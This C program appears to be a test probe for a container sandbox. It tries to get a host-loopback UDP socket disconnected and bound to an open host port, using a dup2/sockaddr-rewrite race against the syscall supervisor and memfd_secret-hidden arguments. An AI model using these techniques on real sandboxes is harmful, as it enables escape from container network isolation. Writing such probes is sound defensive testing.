/* rebind: a UDP twin disconnected and bound to a port of the container's choosing, two ways. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

/*
 * Usage: rebind race|race-pipe|race-rewrite PEER_PORT BIND_PORT TRIES
 *        rebind secret PEER_PORT BIND_PORT
 *
 * Both first make a twin: a UDP socket connect()ed to 10.0.2.2:PEER_PORT (the host's loopback,
 * allowed). Then they try to have the kernel disconnect it (connect() to AF_UNSPEC) and bind it
 * to 0.0.0.0:BIND_PORT, which would make it a host socket open to every user on that port:
 *
 *  - race: the calls are made on fd number SLOT while a second thread dup2()s the twin and a
 *    socket of the netns's own over SLOT in turn, so that a call the supervisor continued for
 *    the netns's socket is run on the twin (TRIES rounds of each call); race-pipe: a pipe, no
 *    socket at all, in the netns's socket's place; race-rewrite: the netns's socket is
 *    connect()ed to 127.0.0.1:9 (kept inside, so continued) and the sockaddr is rewritten to
 *    AF_UNSPEC as the twin is swapped in, for the kernel reads it again; then, raced or not,
 *    the twin waits WAIT_MS for a datagram and prints "received=N" (what reached it);
 *  - secret: the calls are made on the twin itself, their sockaddr in memfd_secret() memory,
 *    which the supervisor cannot read and the kernel can.
 *
 * Prints "local=127.0.0.1 disconnected=0|1 port=P" (the twin's address and port once done), or
 * "secret=none" where the kernel has no memfd_secret().
 */

#define SLOT	   100
#define PEER	   "10.0.2.2"
#define SECRET_LEN 4096
#define WAIT_MS	   3000
#define SPIN	   64

static int twin = -1, inside = -1;
static atomic_bool stop, rewrite;
static struct sockaddr_in buf; /* race-rewrite: the sockaddr both threads touch */

static void spin(void)
{
	for (volatile int i = rand() % SPIN; i > 0; i--)
		;
}

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		dup2(twin, SLOT);
		if (atomic_load(&rewrite)) {
			buf.sin_family = AF_UNSPEC;
			spin();
			dup2(inside, SLOT);
			buf = (struct sockaddr_in){ .sin_family = AF_INET,
						    .sin_port = htons(9),
						    .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
			spin();
			continue;
		}
		dup2(inside, SLOT);
	}
	return NULL;
}

static int port_of(int fd)
{
	struct sockaddr_in me;
	socklen_t len = sizeof(me);

	return getsockname(fd, (struct sockaddr *)&me, &len) < 0 ? -1 : ntohs(me.sin_port);
}

static bool connected(int fd)
{
	struct sockaddr_in peer;
	socklen_t len = sizeof(peer);

	return getpeername(fd, (struct sockaddr *)&peer, &len) == 0;
}

static void report(void)
{
	struct sockaddr_in me;
	socklen_t len = sizeof(me);
	char addr[INET_ADDRSTRLEN] = "?";

	if (!getsockname(twin, (struct sockaddr *)&me, &len))
		inet_ntop(AF_INET, &me.sin_addr, addr, sizeof(addr));
	printf("local=%s disconnected=%d port=%d\n", addr, !connected(twin), port_of(twin));
}

static int race(int bind_port, long tries, bool pipe_inside)
{
	struct sockaddr_in unspec = { .sin_family = AF_UNSPEC };
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons(bind_port) };
	pthread_t th;
	int p[2];

	if (pipe_inside)
		inside = pipe(p) < 0 ? -1 : p[0];
	else
		inside = socket(AF_INET, SOCK_DGRAM, 0);
	if (inside < 0 || pthread_create(&th, NULL, swapper, NULL))
		return 1;
	for (long i = 0; i < tries && connected(twin); i++)
		connect(SLOT, (struct sockaddr *)(atomic_load(&rewrite) ? &buf : &unspec),
			sizeof(unspec));
	for (long i = 0; i < tries && port_of(twin) != bind_port; i++)
		bind(SLOT, (struct sockaddr *)&any, sizeof(any));
	atomic_store(&stop, true);
	pthread_join(th, NULL);
	report();
	if (atomic_load(&rewrite)) {
		struct timeval tv = { .tv_sec = WAIT_MS / 1000 };
		char dgram[64];
		int received = 0;

		fflush(stdout);
		setsockopt(twin, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		while (recv(twin, dgram, sizeof(dgram), 0) >= 0)
			received++;
		printf("received=%d\n", received);
	}
	return 0;
}

static int secret(int bind_port)
{
	int fd = (int)syscall(SYS_memfd_secret, 0);
	struct sockaddr_in *addr;

	if (fd < 0 || ftruncate(fd, SECRET_LEN) < 0) {
		printf("secret=none\n");
		return 0;
	}
	addr = mmap(NULL, SECRET_LEN, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (addr == MAP_FAILED) {
		printf("secret=none\n");
		return 0;
	}
	*addr = (struct sockaddr_in){ .sin_family = AF_UNSPEC };
	connect(twin, (struct sockaddr *)addr, sizeof(*addr));
	*addr = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(bind_port) };
	bind(twin, (struct sockaddr *)addr, sizeof(*addr));
	report();
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in peer = { .sin_family = AF_INET };
	bool racing = argc > 1 && (!strcmp(argv[1], "race") || !strcmp(argv[1], "race-pipe") ||
				   !strcmp(argv[1], "race-rewrite"));

	if (argc < 4 || (!racing && strcmp(argv[1], "secret")) || (racing && argc < 5)) {
		fprintf(stderr, "usage: rebind race|race-pipe|race-rewrite|secret PEER_PORT "
				"BIND_PORT [TRIES]\n");
		return 2;
	}
	peer.sin_port = htons(atoi(argv[2]));
	inet_pton(AF_INET, PEER, &peer.sin_addr);
	twin = socket(AF_INET, SOCK_DGRAM, 0);
	if (twin < 0 || connect(twin, (struct sockaddr *)&peer, sizeof(peer)) < 0) {
		perror("rebind: the twin's connect");
		return 1;
	}
	atomic_store(&rewrite, !strcmp(argv[1], "race-rewrite"));
	if (racing)
		return race(atoi(argv[3]), atol(argv[4]), !strcmp(argv[1], "race-pipe"));
	return secret(atoi(argv[3]));
}
